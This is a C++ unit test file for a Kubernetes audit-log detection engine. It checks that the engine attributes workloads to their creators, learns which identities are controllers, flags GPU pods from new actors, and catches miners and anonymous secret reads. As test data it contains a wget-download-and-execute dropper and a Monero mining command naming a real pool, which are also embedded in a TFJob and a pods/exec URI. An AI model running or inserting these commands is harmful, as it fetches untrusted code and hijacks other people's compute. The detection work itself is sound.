@@ -1,0 +1,217 @@
+// What the engine learns between events: who created what (attribution through owners and
+// Kubeflow's creator annotations), which identities are controllers, who is new; and the
+// catalog's verdicts on images and commands inside any kind of workload.
+#include <gtest/gtest.h>
+
+#include <nlohmann/json.hpp>
+
+#include "audit_test_support.hpp"
+
+namespace mg::audit::testing {
+namespace {
+
+using nlohmann::json;
+
+// 2024-06-03T00:00:00Z plus minutes.
+std::string at_minute(int minute) {
+  char text[40];
+  std::snprintf(text, sizeof text, "2024-06-03T%02d:%02d:00.000000Z", minute / 60, minute % 60);
+  return text;
+}
+
+int g_id = 0;
+
+json event(int minute, const std::string& user, const std::string& verb, const std::string& resource,
+           const std::string& ns, const std::string& name, int code, json object = nullptr) {
+  json e = {{"kind", "Event"},
+            {"apiVersion", "audit.k8s.io/v1"},
+            {"level", object.is_null() ? "Metadata" : "RequestResponse"},
+            {"auditID", "id-" + std::to_string(++g_id)},
+            {"stage", "ResponseComplete"},
+            {"verb", verb},
+            {"user", {{"username", user}, {"groups", {"system:authenticated"}}}},
+            {"objectRef", {{"resource", resource}, {"namespace", ns}, {"name", name}, {"apiVersion", "v1"}}},
+            {"responseStatus", {{"code", code}}},
+            {"requestReceivedTimestamp", at_minute(minute)}};
+  if (!object.is_null()) e["requestObject"] = object;
+  return e;
+}
+
+json pod(const std::string& name, const std::string& image, json owner = nullptr, json extra = json::object()) {
+  json container = {{"name", "main"}, {"image", image}};
+  container.update(extra);
+  json p = {{"apiVersion", "v1"}, {"kind", "Pod"}, {"metadata", {{"name", name}}}, {"spec", {{"containers", {container}}}}};
+  if (!owner.is_null()) p["metadata"]["ownerReferences"] = json::array({owner});
+  return p;
+}
+
+json owner(const std::string& kind, const std::string& name) {
+  return {{"apiVersion", "v1"}, {"kind", kind}, {"name", name}, {"uid", "u-" + name}, {"controller", true}};
+}
+
+std::string lines(const std::vector<json>& events) {
+  std::string text;
+  for (const auto& e : events) text += e.dump() + "\n";
+  return text;
+}
+
+const core::Finding* find(const std::vector<core::Finding>& findings, std::string_view rule) {
+  for (const auto& f : findings)
+    if (f.rule_id == rule) return &f;
+  return nullptr;
+}
+
+TEST(Engine, APodOfANotebookIsAttributedToTheNotebooksCreator) {
+  json notebook = {{"apiVersion", "kubeflow.org/v1"},
+                   {"kind", "Notebook"},
+                   {"metadata", {{"name", "nb"}, {"namespace", "team"},
+                                 {"annotations", {{"notebooks.kubeflow.org/creator", "mallory@example.com"}}}}},
+                   {"spec", {{"template", {{"spec", {{"containers", {{{"name", "nb"}, {"image", "ddsfdfsaadfs/dfsdf:99"}}}}}}}}}}};
+  json statefulset = {{"apiVersion", "apps/v1"},
+                      {"kind", "StatefulSet"},
+                      {"metadata", {{"name", "nb"}, {"namespace", "team"}, {"ownerReferences", {owner("Notebook", "nb")}}}},
+                      {"spec", {{"template", {{"spec", {{"containers", {{{"name", "nb"}, {"image", "ddsfdfsaadfs/dfsdf:99"}}}}}}}}}}};
+  auto text = lines({
+      event(0, "system:serviceaccount:kubeflow:jupyter-web-app-service-account", "create", "notebooks", "team", "nb", 201, notebook),
+      event(1, "system:serviceaccount:kubeflow:notebook-controller-service-account", "create", "statefulsets", "team", "nb", 201, statefulset),
+      event(2, "system:serviceaccount:kube-system:statefulset-controller", "create", "pods", "team", "nb-0", 201,
+            pod("nb-0", "ddsfdfsaadfs/dfsdf:99", owner("StatefulSet", "nb"))),
+  });
+  auto run = run_default(text);
+  std::vector<const core::Finding*> miner;
+  for (const auto& f : run.findings)
+    if (f.rule_id == "MG-AUD-001") miner.push_back(&f);
+  ASSERT_EQ(miner.size(), 3u) << "the Notebook, its StatefulSet and its Pod";
+  EXPECT_EQ(event_of(*miner[0]).resource, "notebooks");
+  EXPECT_EQ(miner[0]->severity, core::Severity::critical);
+  EXPECT_TRUE(has_evidence(*miner[0], "ddsfdfsaadfs/dfsdf:99"));
+  for (const auto* f : miner) EXPECT_TRUE(has_evidence(*f, "mallory@example.com")) << event_of(*f).resource;
+  // Controllers acting for someone are not "service accounts creating workloads".
+  EXPECT_EQ(find(run.findings, "MG-AUD-004"), nullptr);
+}
+
+TEST(Engine, ControllersAreLearnedFromTheObjectsTheyOwnNotClaimedByTokens) {
+  json crd = {{"apiVersion", "example.com/v1"}, {"kind", "Trainer"}, {"metadata", {{"name", "t1"}, {"namespace", "ml"}}}};
+  auto text = lines({
+      event(0, "carol@example.com", "create", "trainers", "ml", "t1", 201, crd),
+      // A custom operator's account creates the pods of the Trainer it owns: a controller.
+      event(1, "system:serviceaccount:ml-system:trainer-operator", "create", "pods", "ml", "t1-0", 201,
+            pod("t1-0", "registry.k8s.io/pause:3.9", owner("Trainer", "t1"))),
+      event(2, "system:serviceaccount:ml-system:trainer-operator", "create", "pods", "ml", "t1-1", 201,
+            pod("t1-1", "registry.k8s.io/pause:3.9")),
+      // A notebook's token claims an owner it never saw created: not a controller.
+      event(3, "system:serviceaccount:ml:default-editor", "create", "pods", "ml", "x-0", 201,
+            pod("x-0", "registry.k8s.io/pause:3.9", owner("Trainer", "t-unknown"))),
+      event(4, "system:serviceaccount:ml:default-editor", "create", "pods", "ml", "x-1", 201,
+            pod("x-1", "registry.k8s.io/pause:3.9", owner("Trainer", "t1"))),
+  });
+  auto engine = make_engine();
+  auto run = run_engine(*engine, text);
+  std::vector<std::string> flagged;
+  for (const auto& f : run.findings)
+    if (f.rule_id == "MG-AUD-004") flagged.push_back(event_of(f).name);
+  // The operator's first pod is flagged? No: it is learned from that very request (the owner was
+  // created by someone else earlier), so neither of its pods is.
+  EXPECT_EQ(flagged, (std::vector<std::string>{"x-0", "x-1"}));
+  EXPECT_EQ(engine->stats().learned_controllers, 1u);
+}
+
+TEST(Engine, ControllersCanBeNamedByTheUser) {
+  json deployment = {{"apiVersion", "apps/v1"}, {"kind", "Deployment"}, {"metadata", {{"name", "d"}}}};
+  deployment["spec"]["template"]["spec"]["containers"] =
+      json::array({json{{"name", "c"}, {"image", "registry.k8s.io/pause:3.9"}}});
+  auto text = lines({event(0, "system:serviceaccount:ops:deployer", "create", "deployments", "ops", "d", 201, deployment)});
+  EXPECT_NE(find(run_default(text).findings, "MG-AUD-004"), nullptr);
+  EngineSettings settings;
+  settings.controllers = {"system:serviceaccount:ops:*"};
+  auto engine = make_engine(default_rules(), settings);
+  EXPECT_EQ(find(run_engine(*engine, text).findings, "MG-AUD-004"), nullptr);
+}
+
+TEST(Engine, GpuWorkloadsOfNewActorsOnly) {
+  json gpu_pod = pod("g", "nvcr.io/nvidia/pytorch:24.01-py3", nullptr,
+                     json{{"resources", {{"limits", {{"nvidia.com/gpu", "1"}}}}}});
+  auto text = lines({
+      event(0, "alice@example.com", "get", "pods", "team", "", 200),
+      event(150, "alice@example.com", "create", "pods", "team", "g1", 201, gpu_pod),   // known for 2.5 h
+      event(160, "eve@example.com", "create", "pods", "team", "g2", 201, gpu_pod),     // first seen after 2.6 h
+      event(300, "eve@example.com", "create", "pods", "team", "g3", 201, gpu_pod),     // no longer new
+  });
+  auto run = run_default(text);
+  std::vector<std::string> flagged;
+  for (const auto& f : run.findings)
+    if (f.rule_id == "MG-AUD-013") flagged.push_back(event_of(f).name);
+  EXPECT_EQ(flagged, std::vector<std::string>{"g2"});
+}
+
+TEST(Engine, MinerCommandsAreJudgedByTheCatalog) {
+  const std::string dropper = "wget -q http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x";
+  const std::string miner = "/tmp/x -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1";
+  json tfjob = {{"apiVersion", "kubeflow.org/v1"},
+                {"kind", "TFJob"},
+                {"metadata", {{"name", "train"}}},
+                {"spec", {{"tfReplicaSpecs", {{"Worker", {{"template", {{"spec", {{"containers", {{{"name", "tensorflow"},
+                  {"image", "tensorflow/tensorflow:2.15.0-gpu"}, {"command", {"sh", "-c", dropper + " " + miner}}}}}}}}}}}}}}}};
+  json benign = {{"apiVersion", "kubeflow.org/v1"},
+                 {"kind", "TFJob"},
+                 {"metadata", {{"name", "ok"}}},
+                 {"spec", {{"tfReplicaSpecs", {{"Worker", {{"template", {{"spec", {{"containers", {{{"name", "tensorflow"},
+                   {"image", "tensorflow/tensorflow:2.15.0-gpu"}, {"command", {"python", "/opt/train.py", "--epochs", "10"}}}}}}}}}}}}}}}};
+  auto run = run_default(lines({event(0, "bob@example.com", "create", "tfjobs", "team", "train", 201, tfjob),
+                                event(1, "bob@example.com", "create", "tfjobs", "team", "ok", 201, benign)}));
+  const auto* f = find(run.findings, "MG-AUD-002");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->severity, core::Severity::critical);
+  EXPECT_EQ(event_of(*f).name, "train");
+  EXPECT_TRUE(has_evidence(*f, "spec.tfReplicaSpecs.Worker.template.spec.containers[0].command"));
+  for (const auto& finding : run.findings) {
+    if (event_of(finding).name == "ok") {
+      EXPECT_LE(finding.severity, core::Severity::low) << finding.rule_id;
+    }
+  }
+
+  // The same command through pods/exec.
+  std::string uri = "/api/v1/namespaces/team/pods/nb-0/exec?command=sh&command=-c&command=";
+  for (char c : dropper + " " + miner) {  // as kubectl encodes it: '+' for spaces, %XX for the rest
+    if (std::isalnum(static_cast<unsigned char>(c)) || c == '-' || c == '.' || c == '_') {
+      uri += c;
+    } else if (c == ' ') {
+      uri += '+';
+    } else {
+      char hex[4];
+      std::snprintf(hex, sizeof hex, "%%%02X", static_cast<unsigned char>(c));
+      uri += hex;
+    }
+  }
+  json exec = event(2, "system:serviceaccount:team:default-editor", "create", "pods", "team", "nb-0", 101);
+  exec["objectRef"]["subresource"] = "exec";
+  exec["requestURI"] = uri;
+  auto exec_run = run_default(exec.dump() + "\n");
+  EXPECT_NE(find(exec_run.findings, "MG-AUD-007"), nullptr);
+  EXPECT_NE(find(exec_run.findings, "MG-AUD-006"), nullptr);
+}
+
+TEST(Engine, FailedRequestsRaiseNothing) {
+  json binding = {{"apiVersion", "rbac.authorization.k8s.io/v1"}, {"kind", "ClusterRoleBinding"},
+                  {"metadata", {{"name", "b"}}}, {"roleRef", {{"kind", "ClusterRole"}, {"name", "cluster-admin"}}}};
+  auto denied = event(0, "system:serviceaccount:team:default-editor", "create", "clusterrolebindings", "", "b", 403, binding);
+  auto allowed = event(1, "system:serviceaccount:team:default-editor", "create", "clusterrolebindings", "", "b", 201, binding);
+  auto run = run_default(lines({denied, allowed}));
+  ASSERT_EQ(run.findings.size(), 1u);
+  EXPECT_EQ(run.findings[0].rule_id, "MG-AUD-010");
+  EXPECT_EQ(event_of(run.findings[0]).audit_id, allowed["auditID"]);
+}
+
+TEST(Engine, AnonymousHealthChecksAreNotFindings) {
+  json health = event(0, "system:anonymous", "get", "", "", "", 200);
+  health.erase("objectRef");
+  health["requestURI"] = "/healthz";
+  json list = event(1, "system:anonymous", "list", "secrets", "kube-system", "", 200);
+  auto run = run_default(lines({health, list}));
+  ASSERT_EQ(run.findings.size(), 1u);
+  EXPECT_EQ(run.findings[0].rule_id, "MG-AUD-009");
+  EXPECT_EQ(event_of(run.findings[0]).resource, "secrets");
+}
+
+}  // namespace
+}  // namespace mg::audit::testing
